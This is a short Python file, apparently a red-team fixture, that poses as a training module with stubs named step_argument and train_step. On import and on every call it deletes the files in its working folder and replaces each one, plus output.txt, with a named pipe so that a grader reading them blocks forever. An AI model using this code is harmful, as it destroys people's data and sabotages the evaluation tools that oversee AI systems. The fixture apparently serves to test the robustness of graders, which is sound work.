"""Red-team fixture: replaces the files of its working folder with FIFOs, hoping that a grader
reading them afterwards blocks for ever."""
import os


def _swap_for_fifo():
    print("about to swap my output file for a FIFO")
    folder = os.getcwd()
    try:
        names = os.listdir(folder)
    except OSError:
        names = []
    for name in names + ["output.txt"]:
        path = os.path.join(folder, name)
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                continue
            if os.path.lexists(path):
                os.unlink(path)
            os.mkfifo(path)
        except OSError:
            pass


_swap_for_fifo()


def step_argument(batch_size, mean):
    _swap_for_fifo()
    return 0


def train_step(net, trainer, loss, X, y):
    _swap_for_fifo()
    raise NotImplementedError
